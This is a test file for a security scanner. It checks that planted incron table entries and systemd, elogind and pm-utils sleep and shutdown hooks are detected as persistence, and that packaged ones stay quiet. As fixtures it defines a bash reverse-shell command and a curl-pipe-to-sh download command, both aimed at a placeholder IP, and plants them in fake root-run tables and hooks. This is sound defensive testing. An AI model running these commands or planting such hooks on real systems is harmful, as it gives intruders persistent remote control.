/**
 * Two families that run programs when something happens rather than on a schedule: incron tables (a command
 * `sh -c` runs on every file event, as root for a system table) and power hooks (systemd's and elogind's
 * system-sleep and system-shutdown directories, pm-utils' sleep.d and power.d). Each fires on a planted program
 * and stays quiet on what a package installed.
 */
import assert from "node:assert/strict";
import { assertLinear } from "../linear.ts";
import { parseIncrontab } from "../../src/scanners/persistence/cron.ts";
import { persistence } from "../../src/scanners/persistence/index.ts";
import { makeTree, runOne } from "../helpers.ts";
import { dpkgOwns, exe, fired, withAccounts } from "./persistence_fixtures.ts";

const REVERSE = "bash -i >& /dev/tcp/203.0.113.9/443 0>&1";
const FETCH = "curl -fsSL http://203.0.113.9/x | sh";

Deno.test("incrontab: path, mask and command; escaped spaces in the path; comments, blank and short lines", () => {
  const t = parseIncrontab([
    "# path mask command",
    "/etc/passwd IN_MODIFY /usr/local/bin/notify $@ $#",
    "/srv/up\\ load\tIN_CLOSE_WRITE,IN_MOVED_TO\t  /usr/bin/scan $@/$#  \r",
    "",
    "   ",
    "/only-two IN_CREATE",
    "/var/www 8 sh -c 'x'",
  ].join("\n"));
  assert.deepEqual(t.entries, [
    { line: 2, path: "/etc/passwd", mask: "IN_MODIFY", command: "/usr/local/bin/notify $@ $#" },
    { line: 3, path: "/srv/up load", mask: "IN_CLOSE_WRITE,IN_MOVED_TO", command: "/usr/bin/scan $@/$#" },
    { line: 7, path: "/var/www", mask: "8", command: "sh -c 'x'" },
  ]);
  assert.equal(t.bad, 1);
});

Deno.test("incrontab: a line of more than 999 bytes is read as incrond reads it, in 999-byte pieces", () => {
  // The padding is a path of 990 characters; incrond's fgets stops after 999 bytes, and the rest of the line is
  // a table line of its own.
  const first = `/${"a".repeat(989)} IN_X true`; // 1000 characters: the 1000th starts the second piece
  const line = `${first.slice(0, 999)}/tmp IN_CREATE ${REVERSE}`;
  const t = parseIncrontab(line + "\n");
  assert.deepEqual(t.entries.map((e) => [e.line, e.command]), [[1, "tru"], [1, REVERSE]]);
});

Deno.test("incrontab: malformed and hostile input never throws and takes linear time", () => {
  const inputs = [
    "\\".repeat(1 << 20),
    " ".repeat(1 << 20),
    "a\\ ".repeat(300_000) + " m c",
    "é".repeat(400_000),
    "x y z\n".repeat(150_000),
    "\0\uFFFD\r\n".repeat(200_000),
  ];

  for (const text of inputs) assert.ok(Array.isArray(parseIncrontab(text).entries));
  assertLinear(parseIncrontab, [
    ["escaped blanks in a path", (n) => "a\\ ".repeat(n / 3) + " m c\n"],
    ["blank runs", (n) => " ".repeat(n) + "x"],
    ["backslashes", (n) => "\\".repeat(n)],
    ["lines of three fields", (n) => "x y z\n".repeat(n / 6)],
  ]);
});

Deno.test("persistence: incron system and user tables, and tables moved by incron.conf, fire", async () => {
  using root = makeTree(withAccounts({
    "etc/incron.d/audit": `/etc/shadow IN_ACCESS ${REVERSE}\n`,
    "etc/incron.d/.cache": "/var/log IN_MODIFY /dev/shm/.w $@\n",
    "dev/shm/.w": exe("#!/bin/sh\n"),
    "var/spool/incron/bob": `/home/bob/Downloads IN_CLOSE_WRITE ${FETCH}\n`,
    "etc/incron.conf": "# moved\nsystem_table_dir = /var/lib/.inc\n",
    "var/lib/.inc/sys": `/tmp IN_CREATE ${REVERSE}\n`,
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  // /etc/incron.d is no longer incrond's system table directory once incron.conf moves it.
  assert.deepEqual(fired(r.findings), [
    "critical persistence.command.reverse_shell /var/lib/.inc/sys:1",
    "high persistence.command.download_exec /var/spool/incron/bob:1",
  ]);
  const bob = r.findings.find((f) => f.metadata.path === "/var/spool/incron/bob")!;
  assert.equal(bob.metadata.run_as, "bob");

  using plain = makeTree(withAccounts({
    "etc/incron.d/audit": `/etc/shadow IN_ACCESS ${REVERSE}\n`,
    "etc/incron.d/.cache": "/var/log IN_MODIFY /dev/shm/.w $@\n",
    "dev/shm/.w": exe("#!/bin/sh\n"),
  }));
  const p = await runOne(persistence, plain.path, { persistenceRecentDays: 0 });
  assert.deepEqual(fired(p.findings), [
    "critical persistence.command.reverse_shell /etc/incron.d/audit:1",
    "high persistence.command.untrusted_path /etc/incron.d/.cache:1",
  ]);
});

Deno.test("persistence: ordinary incron tables stay quiet, and the points are in the inventory", async () => {
  using root = makeTree(withAccounts({
    "etc/incron.conf": "# system_table_dir = /tmp\n",
    "etc/incron.d/www": "/srv/www IN_CLOSE_WRITE /usr/bin/chmod 0644 $@/$#\n",
    "var/spool/incron/alice":
      "# rebuild on change\n/home/alice/src IN_MODIFY /usr/bin/make -C /home/alice/src\n",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), []);
  assert.deepEqual(r.warnings, []);
  const points = r.findings.filter((f) => f.metadata.kind === "incron").map((f) => f.metadata.path).sort();
  assert.deepEqual(points, ["/etc/incron.d/www", "/var/spool/incron/alice"]);
});

const SLEEP = "/usr/lib/systemd/system-sleep";
const SHUTDOWN = "/usr/lib/systemd/system-shutdown";

Deno.test("persistence: planted sleep and shutdown hooks fire, wherever systemd, elogind or pm-utils read them", async () => {
  using root = makeTree(withAccounts({
    [`${SLEEP.slice(1)}/nvidia`]: exe(
      "#!/bin/sh\ncase $1 in pre) /usr/bin/nvidia-sleep.sh suspend ;; esac\n",
    ),
    [`${SLEEP.slice(1)}/zz-resume`]: exe(`#!/bin/sh\n[ "$1" = post ] && ${REVERSE}\n`),
    [`${SHUTDOWN.slice(1)}/flush`]: exe("\x7fELF\x02\x01\x01"),
    // systemd 256 and later also read /etc; a name there does not hide /usr/lib's on earlier versions.
    "etc/systemd/system-sleep/nvidia": exe(`#!/bin/sh\n${FETCH}\n`),
    "etc/elogind/system-shutdown/.x": exe("#!/bin/sh\n/var/tmp/.k\n"),
    "var/tmp/.k": exe("#!/bin/sh\n"),
    "etc/pm/power.d/99-wake": exe("#!/bin/sh\n/dev/shm/.p &\n"),
    "dev/shm/.p": exe("#!/bin/sh\n"),
    ...dpkgOwns("nvidia-suspend-common", [`${SLEEP}/nvidia`]),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), [
    `critical persistence.command.reverse_shell ${SLEEP}/zz-resume:2`,
    "high persistence.command.download_exec /etc/systemd/system-sleep/nvidia:2",
    // The hidden hook itself, and the hidden program it runs.
    "high persistence.command.untrusted_path /etc/elogind/system-shutdown/.x",
    "high persistence.command.untrusted_path /etc/elogind/system-shutdown/.x:2",
    "high persistence.command.untrusted_path /etc/pm/power.d/99-wake:2",
    `medium persistence.hook.unpackaged ${SHUTDOWN}/flush`,
    `medium persistence.hook.unpackaged ${SLEEP}/zz-resume`,
  ]);
});

Deno.test("persistence: packaged, masked, empty and non-executable power hooks stay quiet", async () => {
  using root = makeTree(withAccounts({
    [`${SLEEP.slice(1)}/hdparm`]: exe(
      '#!/bin/sh\n[ "$1" = post ] && /usr/lib/pm-utils/power.d/95hdparm-apm\n',
    ),
    [`${SHUTDOWN.slice(1)}/mdadm.shutdown`]: exe("#!/bin/sh\n/sbin/mdadm --wait-clean --scan\n"),
    "etc/systemd/system-sleep/masked": { symlink: "/dev/null" },
    "etc/systemd/system-sleep/empty": exe(""),
    "etc/pm/sleep.d/README": "Put executable hooks here.\n",
    ...dpkgOwns("hdparm", [`${SLEEP}/hdparm`]),
    ...dpkgOwns("mdadm", [`${SHUTDOWN}/mdadm.shutdown`]),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(fired(r.findings), []);
  const points = r.findings.filter((f) => f.metadata.kind === "power_hook").map((f) =>
    `${f.metadata.path} ${f.metadata.runner}${f.metadata.inert ? " inert" : ""}`
  ).sort();
  assert.deepEqual(points, [
    "/etc/pm/sleep.d/README pm-utils inert",
    `${SHUTDOWN}/mdadm.shutdown systemd-shutdown`,
    `${SLEEP}/hdparm systemd-sleep`,
  ]);
});
